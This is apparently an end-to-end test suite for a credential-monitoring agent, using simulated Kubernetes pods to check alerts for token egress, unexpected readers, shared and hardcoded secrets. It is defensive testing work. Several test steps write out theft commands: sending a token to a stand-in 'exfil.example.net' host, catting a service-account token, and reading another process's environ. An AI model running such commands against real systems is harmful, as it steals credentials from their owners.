# SPDX-License-Identifier: GPL-2.0 OR BSD-3-Clause
"""Workload identity, provenance and the intended-workload policy, with simulated pods.

Each pod is a cgroup v2 hierarchy named the way the kubelet (systemd driver) and containerd
name theirs, plus the /var/log/pods and /var/log/containers entries the kubelet would make;
the test's processes move themselves into a pod's cgroup before they exec, so everything the
agent sees of them carries that cgroup id.
"""
import base64
import json
import os
import secrets
import shutil
import subprocess
import tempfile
import time
import uuid

from cwtest import (BIN, Agent, Closing, KeyFile, Skip, child_process, github_token,
                    host_workload, own, require_root, wait_own, wait_until)
from test_tls import ServerProcess, TlsServer, free_port

NS = "cw-e2e"
PODS_DIR = "/var/log/pods"
CONTAINERS_DIR = "/var/log/containers"


def cgroup2_root():
    with open("/proc/mounts") as f:
        for line in f:
            fields = line.split()
            if len(fields) > 2 and fields[2] == "cgroup2":
                return fields[1]
    raise Skip("no cgroup v2 hierarchy mounted")


SA_DIR = "/var/run/secrets/kubernetes.io/serviceaccount"


class Pod:
    """A simulated pod with one container: cgroup, pod log directory, container log link, and
    the container's main process (a sleep) in its own mount namespace, where a tmpfs over /run
    holds the pod's service-account token as the kubelet's projected volume would. Commands
    run in the pod join its cgroup and that mount namespace, as `kubectl exec` does."""

    def __init__(self, name, qos="besteffort", container="app", sa_token=""):
        self.name = f"{name}-{secrets.token_hex(3)}"
        self.uid = str(uuid.uuid4())
        self.cid = secrets.token_hex(32)
        self.container = container
        self.main = None
        root = cgroup2_root()
        uid_ = self.uid.replace("-", "_")
        self.qos_dir = os.path.join(root, "kubepods.slice", f"kubepods-{qos}.slice")
        self.pod_dir = os.path.join(self.qos_dir, f"kubepods-{qos}-pod{uid_}.slice")
        self.cgroup = os.path.join(self.pod_dir, f"cri-containerd-{self.cid}.scope")
        os.makedirs(self.cgroup)
        self.log_dir = os.path.join(PODS_DIR, f"{NS}_{self.name}_{self.uid}")
        os.makedirs(os.path.join(self.log_dir, container))
        os.makedirs(CONTAINERS_DIR, exist_ok=True)
        self.log_link = os.path.join(CONTAINERS_DIR,
                                     f"{self.name}_{NS}_{container}-{self.cid}.log")
        os.symlink(os.path.join(self.log_dir, container, "0.log"), self.log_link)
        # the main process: its token written from stdin (a write-only open, not a read)
        script = ('echo $$ > "$0/cgroup.procs" || exit 97; '
                  f'exec unshare -m sh -c "mount -t tmpfs cw /run && mkdir -p {SA_DIR} && '
                  f'cat > {SA_DIR}/token && echo ready && exec sleep 600"')
        self.main = subprocess.Popen(["sh", "-c", script, self.cgroup], stdin=subprocess.PIPE,
                                     stdout=subprocess.PIPE)
        self.main.stdin.write(sa_token.encode())
        self.main.stdin.close()
        assert self.main.stdout.readline().strip() == b"ready", "the pod's main process failed"

    @property
    def workload(self):
        return f"k8s:{NS}/{self.name}"

    def run(self, argv, secret_env=None, secret=None, stdin=None, check=True):
        """Run argv in this pod (its cgroup and mount namespace). With secret_env, the
        secret reaches the program's environment through a shell that reads it from stdin:
        never through an argv or the environment of a process outside the pod."""
        script = ('echo $$ > "$0/cgroup.procs" || exit 97; '
                  'if [ -n "$CW_ENVNAME" ]; then IFS= read -r v; export "$CW_ENVNAME=$v"; fi; '
                  'exec nsenter -m -t "$1" -- "${@:2}"')
        env = dict(os.environ)
        if secret_env:
            env["CW_ENVNAME"] = secret_env
            stdin = secret + "\n" + (stdin or "")
        return subprocess.run(["bash", "-c", script, self.cgroup,
                               str(self.main.pid), *argv], env=env,
                              input=(stdin or "").encode(), capture_output=True, check=check,
                              timeout=30)

    def remove(self):
        if self.main:
            self.main.kill()
            self.main.wait()
        # every process has left: the cgroups can go
        for d in (self.cgroup, self.pod_dir):
            for _ in range(50):
                try:
                    os.rmdir(d)
                    break
                except FileNotFoundError:
                    break
                except OSError:
                    time.sleep(0.1)
        shutil.rmtree(self.log_dir, ignore_errors=True)
        try:
            os.unlink(self.log_link)
        except FileNotFoundError:
            pass


def k8s_jwt(namespace, lifetime=3600):
    """A Kubernetes service-account token's shape, with a random signature."""
    def b64(d):
        return base64.urlsafe_b64encode(d).rstrip(b"=").decode()
    now = int(time.time())
    header = {"alg": "RS256", "kid": secrets.token_hex(20)}
    claims = {"aud": ["https://kubernetes.default.svc"], "exp": now + lifetime, "iat": now,
              "iss": "https://kubernetes.default.svc.cluster.local",
              "kubernetes.io": {"namespace": namespace,
                                "serviceaccount": {"name": "default", "uid": str(uuid.uuid4())}},
              "nbf": now, "sub": f"system:serviceaccount:{namespace}:default"}
    return ".".join([b64(json.dumps(header).encode()), b64(json.dumps(claims).encode()),
                     b64(secrets.token_bytes(256))])


def https_client_script():
    """python3: send the token (read from stdin, or from $GITHUB_TOKEN) in an Authorization
    header to https://HOST:PORT/ (argv), trusting any certificate; SNI and Host are HOST."""
    return ("import os,ssl,sys,socket,http.client\n"
            "host,port=sys.argv[1],int(sys.argv[2])\n"
            "tok=os.environ.get('GITHUB_TOKEN') or sys.stdin.readline().strip()\n"
            "ctx=ssl._create_unverified_context()\n"
            "raw=socket.create_connection(('127.0.0.1',port))\n"
            "s=ctx.wrap_socket(raw,server_hostname=host)\n"
            "s.sendall(('GET / HTTP/1.1\\r\\nHost: %s\\r\\nAuthorization: token %s\\r\\n"
            "Connection: close\\r\\n\\r\\n'%(host,tok)).encode())\n"
            "s.recv(100)\n"
            "s.close()\n")


class Env(Closing):
    """Pods, an agent with a private provenance store, and their cleanup: `with Env() as env:`
    stops the agent and removes the pods when the block ends."""

    def __init__(self):
        require_root()
        self.dir = tempfile.mkdtemp(prefix="cw-wl-")
        self.state = os.path.join(self.dir, "state", "provenance.json")
        self.key = KeyFile()
        self.pods = []
        self.agent = None

    def pod(self, name, sa_token=""):
        p = Pod(name, sa_token=sa_token)
        self.pods.append(p)
        return p

    def start(self, *args):
        self.agent = Agent("--state", self.state, *args, key=self.key)
        return self.agent

    def close(self):
        if self.agent:
            self.agent.stop()
        for p in self.pods:
            p.remove()
        shutil.rmtree(self.dir, ignore_errors=True)


def inventory(state):
    out = subprocess.run([BIN, "inventory", "--state", state, "--format", "json"],
                         capture_output=True, check=True, timeout=30).stdout.decode()
    return [json.loads(l) for l in out.splitlines() if l.strip()]


def test_pods_ownership_egress_reader_shared_inventory_restart():
    token = github_token()
    sa = k8s_jwt(NS)
    with Env() as env:
        a, b, c = env.pod("pod-a", sa_token=sa), env.pod("pod-b"), env.pod("pod-c")
        agent = env.start("--events", "--include-loopback")  # the servers are on loopback
        with TlsServer() as srv:
            # Pod A loads the token from a watched file (.env) and from its environment.
            appdir = os.path.join(env.dir, "app")
            os.makedirs(appdir)
            with open(os.path.join(appdir, ".env"), "w") as f:
                f.write(f"APP_NAME=demo\nGITHUB_TOKEN={token}\n")
            a.run(["cat", os.path.join(appdir, ".env")])
            assert wait_own(agent, token, "credential-read"), \
                "pod A's read of its .env file was not seen: " + agent.stderr()[-2000:]
            a.run(["true"], secret_env="GITHUB_TOKEN", secret=token)
            assert wait_own(agent, token, "credential-observed")
            read = own(agent, token, "credential-read")[0]
            assert read["orchestrator"]["resource"]["name"] == a.name
            assert read["orchestrator"]["namespace"] == NS
            assert read["orchestrator"]["resource"]["id"] == a.uid
            assert read["container"]["id"] == a.cid
            assert read["container"]["name"] == "app"
            assert read["container"]["runtime"] == "containerd"
            assert read["credwatch"]["qos"] == "besteffort"
            assert read["file"]["path"] == os.path.join(appdir, ".env")

            # Pod B sends it over TLS: credential-egress naming both pods.
            b.run(["python3", "-c", https_client_script(), "exfil.example.net", str(srv.port)],
                  stdin=token + "\n")
            hits = wait_own(agent, token, "credential-egress")
            assert len(hits) == 1, hits
            e = hits[0]
            assert e["event"]["kind"] == "alert"
            assert e["orchestrator"]["resource"]["name"] == b.name
            assert e["credwatch"]["workload"] == b.workload
            assert e["credwatch"]["credential"]["origin_workload"] == a.workload
            assert a.workload in e["credwatch"]["credential"]["owners"]
            assert b.workload not in e["credwatch"]["credential"]["owners"]
            assert e["destination"]["port"] == srv.port
            assert e["destination"]["domain"] == "exfil.example.net"
            assert e["credwatch"]["tls"]["library"] == "openssl"
            assert e["threat"]["technique"]["id"] == "NHI-02"

            # Pod A sends it to its provider's host: no alert of any kind for pod A.
            a.run(["python3", "-c", https_client_script(), "api.github.com", str(srv.port)],
                  secret_env="GITHUB_TOKEN", secret=token)
            sent = wait_own(agent, token, "credential-sent")
            assert any(l["credwatch"].get("workload") == a.workload for l in sent), sent

            # A shell in pod A cats the service-account token: credential-unexpected-reader.
            a.run(["sh", "-c", f"cat {SA_DIR}/token >/dev/null"])
            hits = wait_own(agent, sa, "credential-unexpected-reader")
            assert len(hits) == 1, hits
            r = hits[0]
            assert r["process"]["name"] == "cat"
            assert r["orchestrator"]["resource"]["name"] == a.name
            assert r["file"]["path"] == "/var/run/secrets/kubernetes.io/serviceaccount/token"
            assert r["credwatch"]["credential"]["kind"] == "kubernetes-service-account-token"

            # The same token loaded in pod C: credential-shared.
            c.run(["true"], secret_env="GITHUB_TOKEN", secret=token)
            hits = wait_own(agent, token, "credential-shared")
            assert len(hits) == 1, hits
            assert hits[0]["credwatch"]["workload"] == c.workload
            assert set(hits[0]["credwatch"]["credential"]["loaded_by"]) >= {a.workload, c.workload}
            assert hits[0]["threat"]["technique"]["id"] == "NHI-09"

            # Pod C got it in its environment after pod A owned it: a latecomer, not an owner
            # (else a stolen token passed in an environment would make its thief an owner).
            c.run(["python3", "-c", https_client_script(), "exfil.example.net", str(srv.port)],
                  secret_env="GITHUB_TOKEN", secret=token)
            assert agent.wait_for(lambda l: l["event"]["action"] == "credential-egress" and
                                  l["credwatch"]["workload"] == c.workload, timeout=15)

            time.sleep(1.5)  # anything further would be a duplicate or a false alarm
            assert not [l for l in own(agent, token, "credential-egress")
                        if l["credwatch"]["workload"] not in (b.workload, c.workload)], \
                "an owner was flagged"
            assert not [l for l in own(agent, token, "credential-unexpected-destination")
                        if l["credwatch"]["workload"] == a.workload], \
                "the provider's own host was flagged"
            assert len(own(agent, token, "credential-egress")) == 2
            assert agent.stop() == 0
            agent.assert_no_plaintext(token, sa)

            # The inventory lists it: where it lives, who loaded it, who used it.
            inv = inventory(env.state)
            fp = env.key.fingerprint(token)
            mine = [i for i in inv if i["credential"]["fingerprint"] == fp]
            assert len(mine) == 1, inv
            item = mine[0]
            loaders = set(item["loaders"])
            assert {a.workload, c.workload} <= loaders and b.workload not in loaders
            srcs = {(o["source"], o["detail"]) for o in item["origins"]}
            assert ("file", os.path.join(appdir, ".env")) in srcs
            assert ("env", "GITHUB_TOKEN") in srcs
            users = {u["workload"] for u in item["users"]}
            assert {a.workload, b.workload} <= users
            st = os.stat(env.state)
            assert st.st_mode & 0o777 == 0o600
            with open(env.state, "rb") as f:
                blob = f.read()
            assert token.encode() not in blob and sa.encode() not in blob
            table = subprocess.run([BIN, "inventory", "--state", env.state], capture_output=True,
                                   check=True, timeout=30).stdout
            assert fp[:16].encode() in table and token.encode() not in table

            # A restarted agent keeps the provenance: pod B sending it again is still flagged.
            agent = env.start("--include-loopback")
            assert "provenance " + env.state + " (" in agent.stderr()
            b.run(["python3", "-c", https_client_script(), "exfil.example.net", str(srv.port)],
                  stdin=token + "\n")
            hits = wait_own(agent, token, "credential-egress")
            assert len(hits) == 1, agent.stderr()[-2000:]
            assert hits[0]["credwatch"]["credential"]["origin_workload"] == a.workload
            agent.assert_no_plaintext(token, sa)


def test_policy_reload_keeps_previous_on_error():
    require_root()
    with Env() as env:
        pol = os.path.join(env.dir, "policy.yaml")
        with open(pol, "w") as f:
            f.write("watch:\n  - '**/cw-e2e-watched.txt'\n")
        agent = env.start("--policy", pol, "--events")
        token = github_token()
        data = os.path.join(env.dir, "cw-e2e-watched.txt")
        with open(data, "w") as f:
            f.write(f"token: {token}\n")
        subprocess.run(["cat", data], capture_output=True, check=True)
        assert wait_own(agent, token, "credential-read"), agent.stderr()[-2000:]
        # a broken policy: named with file, line and field; the old one stays in force
        with open(pol, "w") as f:
            f.write("watch:\n  - '**/cw-e2e-watched.txt'\nworkloads:\n  - nmae: x\n")
        agent.proc.send_signal(1)
        assert agent.wait_err("policy reload failed, keeping the previous policy", 10)
        assert f"{pol}:4" in agent.stderr(), agent.stderr()
        token2 = github_token()
        with open(data, "w") as f:
            f.write(f"token: {token2}\n")
        subprocess.run(["cat", data], capture_output=True, check=True)
        assert wait_own(agent, token2, "credential-read"), "the previous policy was lost"
        assert agent.alive()
        agent.stop()
        agent.assert_no_plaintext(token, token2)


def test_untracked_reads_not_captured_and_write_only_ignored():
    """A file that is not watched is never captured; a watched file opened for writing only
    is forgotten at once."""
    require_root()
    with Env() as env:
        agent = env.start("--events", "-v")
        token = github_token()
        plain = os.path.join(env.dir, "notes.txt")
        with open(plain, "w") as f:
            f.write(f"GITHUB_TOKEN={token}\n")
        subprocess.run(["cat", plain], capture_output=True, check=True)
        watched = os.path.join(env.dir, ".env")
        with open(watched, "w") as f:   # a write-only open of a watched name
            f.write(f"GITHUB_TOKEN={token}\n")
        time.sleep(1.0)
        assert not own(agent, token, "credential-read")
        agent.stop()
        assert "watched file opens" in agent.stderr()


def test_hardcoded_file_in_image():
    """A credential file read from the container's image (a lower layer of its root overlay)
    is credential-hardcoded; the same read from a mounted volume, or from a file written at
    run time into the container's writable layer (a token cache), is not. The same whether
    the agent reads the file or the kernel copies the reads."""
    for mode in ((), ("--capture-reads",)):
        _hardcoded(mode)


def _hardcoded(mode):
    with Env() as env:
        pod = env.pod("img")
        agent = env.start("-v", "--events", *mode)
        token, vol_token, run_token = github_token(), github_token(), github_token()
        root = os.path.join(env.dir, "root")
        os.makedirs(os.path.join(root, "img", "app"))
        for d in ("u", "w", "m"):
            os.makedirs(os.path.join(root, d))
        with open(os.path.join(root, "img", "app", ".env"), "w") as f:
            f.write(f"GITHUB_TOKEN={token}\n")
        # The pod's root: an overlay whose lower layer (the image) holds /app/.env, with the
        # host's /usr bound in so that python runs; a tmpfs volume at /srv/vol; and
        # /cache/.env written at run time (into the upper layer).
        script = ("set -e; r=$0; "
                  "mount -t overlay overlay -o lowerdir=$r/img,upperdir=$r/u,workdir=$r/w $r/m; "
                  "mkdir -p $r/m/usr $r/m/srv/vol $r/m/cache; mount --bind /usr $r/m/usr; "
                  "for l in bin lib lib64 sbin; do ln -s usr/$l $r/m/$l; done; "
                  "mount -t tmpfs vol $r/m/srv/vol; "
                  "IFS= read -r v; IFS= read -r c; "
                  "printf 'GITHUB_TOKEN=%s\\n' \"$v\" > $r/m/srv/vol/.env; "
                  "printf 'GITHUB_TOKEN=%s\\n' \"$c\" > $r/m/cache/.env; "
                  "exec chroot $r/m /usr/bin/python3 -c \"import time\n"
                  "for p in ('/app/.env', '/srv/vol/.env', '/cache/.env'):\n"
                  "    f = open(p); f.read(); time.sleep(0.3); f.close()\n\"")
        subprocess.run(["sh", "-c", 'echo $$ > "$0/cgroup.procs" && exec "$@"', pod.cgroup,
                        "unshare", "-m", "sh", "-c", script, root],
                       input=(vol_token + "\n" + run_token + "\n").encode(), check=True,
                       timeout=30)
        hits = wait_own(agent, token, "credential-hardcoded")
        assert len(hits) == 1, agent.stderr()[-2000:]
        h = hits[0]
        assert h["file"]["path"] == "/app/.env"
        assert h["orchestrator"]["resource"]["name"] == pod.name
        assert wait_own(agent, vol_token, "credential-read")
        assert wait_own(agent, run_token, "credential-read")
        time.sleep(1.0)
        assert not own(agent, vol_token, "credential-hardcoded"), "a volume is not the image"
        assert not own(agent, run_token, "credential-hardcoded"), \
            "a file written at run time is not the image"
        agent.stop()
        agent.assert_no_plaintext(token, vol_token, run_token)


def test_capture_reads_sees_what_was_read_from_a_deleted_file():
    """--capture-reads copies what the process read (read, pread64, readv) in the kernel: a
    file deleted as soon as it was opened, and closed before the agent could look, is still
    matched, in all three pieces."""
    require_root()
    for mode in ("--capture-reads",):
        with Env() as env:
            agent = env.start(*([mode] if mode else []), "--events")
            toks = [github_token() for _ in range(3)]
            path = os.path.join(env.dir, ".env")
            with open(path, "w") as f:
                f.write(f"A={toks[0]}\n" + "#" * 3000 + f"\nB={toks[1]}\n" + "#" * 3000 +
                        f"\nC={toks[2]}\n")
            size = os.path.getsize(path)
            script = ("import os,sys\n"
                      "p=sys.argv[1]; fd=os.open(p,os.O_RDONLY); os.unlink(p)\n"
                      "os.read(fd,3000)\n"                        # read
                      "a=bytearray(2000); b=bytearray(1000); os.readv(fd,[a,b])\n"  # readv
                      f"os.pread(fd,{size},6000)\n"                # pread64
                      "os.close(fd)\n")
            subprocess.run(["python3", "-c", script, path], check=True, timeout=30)
            for t in toks:
                assert wait_own(agent, t, "credential-read"), (t[:4], agent.stderr()[-1500:])
            agent.stop()
            agent.assert_no_plaintext(*toks)


def test_reading_another_process_environment_is_an_unexpected_reader():
    """`cat /proc/PID/environ` of a process holding a credential in its environment: the
    reader is flagged, the process that holds it is the origin, and the reader does not
    become an owner. A process reading its own environment is nothing."""
    with Env() as env:
        agent = env.start()
        token = github_token()
        e = dict(os.environ, GITHUB_TOKEN=token)
        sleep = shutil.which("sleep")
        with child_process([sleep, "30"], env=e) as holder:
            time.sleep(0.3)
            subprocess.run(["sh", "-c", f"cat /proc/{holder.pid}/environ > /dev/null"], check=True)
            hits = wait_own(agent, token, "credential-unexpected-reader")
            assert len(hits) == 1, agent.stderr()[-1500:]
            h = hits[0]
            assert h["process"]["name"] == "cat"
            # cat is gone by the time the agent reports it: its exec event named it
            assert h["process"]["executable"] == shutil.which("cat")
            assert h["file"]["path"] == f"/proc/{holder.pid}/environ"
            # the holder runs in this test's process tree (no unit, session or container)
            assert h["credwatch"]["credential"]["origin_workload"] == host_workload()
            assert "another process's environment" in h["message"]
            # its own environment: not a reader of someone else's
            subprocess.run(["python3", "-c", "open('/proc/self/environ','rb').read()"], env=e,
                           check=True)
            time.sleep(1.0)
            assert len(own(agent, token, "credential-unexpected-reader")) == 1
            agent.stop()
            agent.assert_no_plaintext(token)


def test_relative_open_inside_a_watched_directory():
    """`cd` into the service-account directory, then `cat token`: the relative open is
    matched against the working directory (walked up in the kernel, across the tmpfs mount
    the token lives on, and /var/run -> /run resolved)."""
    sa = k8s_jwt(NS)
    with Env() as env:
        pod = env.pod("rel", sa_token=sa)
        agent = env.start()
        pod.run(["sh", "-c", f"cd {SA_DIR} && cat token >/dev/null"])
        hits = wait_own(agent, sa, "credential-unexpected-reader")
        assert len(hits) == 1, agent.stderr()[-1500:]
        assert hits[0]["process"]["name"] == "cat"
        assert hits[0]["file"]["path"].endswith("/secrets/kubernetes.io/serviceaccount/token")
        agent.stop()
        agent.assert_no_plaintext(sa)


SHIM = """#!/bin/bash
# a pyenv-style shim: finds the real interpreter with helpers, then becomes it
name=$(basename "$0")
here=$(dirname "$(readlink -f "$0")")
real=$(PATH=${PATH#"$here:"} command -v "$name")
exec "$real" "$@"
"""

DAY = """set -e
mount --bind "$DIR/hosts" /etc/hosts
read -r GITHUB_TOKEN
export GITHUB_TOKEN
export PATH="$DIR/shims:$PATH" SSL_CERT_FILE="$DIR/c.pem" CURL_CA_BUNDLE="$DIR/c.pem"
python3 "$DIR/client.py" "https://api.github.com:$PORT/user"
# the header from stdin, as scripts keep tokens off the command line (printf is a builtin)
sh -c 'printf "header = \\"Authorization: token %s\\"\\n" "$GITHUB_TOKEN" |
       curl -sf -o /dev/null -K - "https://api.github.com:$PORT/"'
"""

CLIENT = """import os, sys, urllib.request
req = urllib.request.Request(sys.argv[1],
                             headers={"Authorization": "token " + os.environ["GITHUB_TOKEN"]})
urllib.request.urlopen(req).read()
"""


def test_host_shell_exporting_a_token_to_its_provider_raises_nothing():
    """A shell exports GITHUB_TOKEN and runs a Python client through a pyenv-style shim (which
    spawns basename, dirname, readlink) and `sh -c '... | curl -K -'`, each sending it to
    api.github.com (resolved to a loopback server by /etc/hosts in a private mount namespace,
    its certificate trusted the way a private CA is). Inheritance is not sharing and the
    shell's process tree is one workload: no alert of any kind, one owner."""
    with Env() as env:
        d = env.dir
        subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout",
                        f"{d}/k.pem", "-out", f"{d}/c.pem", "-days", "1", "-subj",
                        "/CN=api.github.com", "-addext", "subjectAltName=DNS:api.github.com"],
                       check=True, capture_output=True)
        with open(f"{d}/hosts", "w") as f:
            f.write("127.0.0.1 localhost\n127.0.0.1 api.github.com\n")
        os.makedirs(f"{d}/shims")
        for name in ("python3", "python"):
            with open(f"{d}/shims/{name}", "w") as f:
                f.write(SHIM)
            os.chmod(f"{d}/shims/{name}", 0o755)
        with open(f"{d}/client.py", "w") as f:
            f.write(CLIENT)
        with open(f"{d}/day.sh", "w") as f:
            f.write(DAY)
        port = free_port()
        agent = env.start("--events", "--include-loopback")
        with ServerProcess(["openssl", "s_server", "-accept", str(port), "-cert", f"{d}/c.pem",
                            "-key", f"{d}/k.pem", "-www", "-quiet"]):
            token = github_token()
            e = dict(os.environ, DIR=d, PORT=str(port))
            e.pop("GITHUB_TOKEN", None)
            r = subprocess.run(["unshare", "-m", "bash", f"{d}/day.sh"], env=e,
                               input=token + "\n", capture_output=True, text=True, timeout=60)
            assert r.returncode == 0, r.stderr
            sent = wait_until(lambda: len([l for l in own(agent, token, "credential-sent")
                                           if l["destination"]["domain"] == "api.github.com"])
                              >= 2, 15)
            assert sent, agent.stderr()[-1500:]
            agent.stop()
            fp = agent.key.fingerprint(token)
            alerts = [(l["event"]["action"], l["process"].get("name"))
                      for l in agent.lines if l.get("event", {}).get("kind") == "alert" and
                      l.get("credwatch", {}).get("credential", {}).get("fingerprint") == fp]
            assert alerts == [], alerts
            # the environment's loads: one owner, the shell's process tree
            loads = [l for l in own(agent, token, "credential-observed")]
            assert loads, "the exec environments were not scanned"
            assert {l["credwatch"]["workload"] for l in own(agent, token, "credential-sent")} \
                == {host_workload()}
            agent.assert_no_plaintext(token)
